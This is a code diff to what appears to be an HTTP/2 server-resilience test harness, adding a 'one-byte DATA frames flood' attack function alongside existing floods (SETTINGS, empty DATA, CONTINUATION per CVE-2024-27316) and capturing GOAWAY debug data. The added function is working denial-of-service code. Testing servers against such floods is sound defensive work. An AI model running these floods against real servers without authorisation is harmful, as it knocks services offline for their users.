@@ -63,6 +63,7 @@ class RawH2:
         self.next_id = 1
         self.buf = b""
         self.goaway: int | None = None
+        self.goaway_debug = b""
         self.closed = False
         self.decoder = HpackDecoder()
 
@@ -119,6 +120,7 @@ class RawH2:
             self.buf = self.buf[9 + n :]
             if kind == GOAWAY:
                 self.goaway = struct.unpack(">LL", payload[:8])[1]
+                self.goaway_debug = payload[8:]
             frames.append((kind, flags, sid, payload))
         return frames
 
@@ -270,6 +272,25 @@ def empty_frames_flood(t: Target) -> str:
         c.close()
 
 
+def tiny_frames_flood(t: Target) -> str:
+    """One-byte DATA frames on an open stream: each costs a frame's parsing and nothing
+    else (a flood of tiny frames holds the event loop as empty ones do)."""
+    c = RawH2(t, ack=True)
+    sid = c.stream()
+    c.send(frame(HEADERS, END_HEADERS, sid, c.head()))
+    end = time.monotonic() + 10
+    try:
+        while time.monotonic() < end and c.goaway is None and not c.closed:
+            if not c.send(frame(DATA, 0, sid, b"\x00") * 2000):
+                break
+            c.read()
+        while c.goaway is None and not c.closed and time.monotonic() < end + 5:
+            c.read(0.2)
+        return c.ended()
+    finally:
+        c.close()
+
+
 def continuation_flood(t: Target) -> str:
     """A header block that never ends: CONTINUATION frames of 16 KB, without END_HEADERS
     (CVE-2024-27316)."""
@@ -397,6 +418,7 @@ H2_ATTACKS: tuple[Attack, ...] = (
     _a("SETTINGS flood", settings_flood, {_CALM}),
     _a("empty DATA frames flood", empty_frames_flood, {_CALM}),
     _a("CONTINUATION without end", continuation_flood, {_CALM}),
+    _a("one-byte DATA frames flood", tiny_frames_flood, {_CALM}),
     _a(
         "10,000 metadata entries, SETTINGS never acknowledged", metadata_flood_unacked, {"RESOURCE_EXHAUSTED"}
     ),
